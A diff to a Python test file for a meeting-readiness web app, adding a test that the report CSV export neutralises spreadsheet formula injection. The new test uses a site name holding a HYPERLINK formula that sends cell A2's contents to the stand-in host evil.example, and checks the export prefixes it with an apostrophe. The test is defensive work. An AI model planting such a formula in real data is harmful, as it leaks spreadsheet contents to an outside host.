@@ -1,5 +1,7 @@
 """Readiness pages: the technician's day, confirming, the board and its JSON, the report."""
 
+import csv
+import io
 import re
 from datetime import timedelta
 
@@ -148,3 +150,17 @@ def test_report_rates_and_csv(client, login_as, sitting, book, sites):
     assert client.get("/readiness/report.csv?by=unit").status_code == 400
     bad = client.get("/readiness/report?date_from=31/12/2026&date_to=01/01/2026")
     assert bad.status_code == 400
+
+
+def test_report_csv_neutralises_formulas(client, login_as, book, sites):
+    """A site's name reaches the report CSV as text, never as a formula a spreadsheet would run."""
+    from vmeeting.registry import service as registry
+
+    name = '=HYPERLINK("http://evil.example/?d="&A2,"Bấm")'
+    registry.update_endpoint(sites["hall"], {"name": name})
+    book([sites["hall"]], utcnow() - timedelta(days=3), title="Họp tuần trước")
+    db.session.commit()
+    login_as("admin")
+    text = client.get("/readiness/report.csv").get_data(as_text=True).lstrip("\ufeff")
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[1][1] == "'" + name
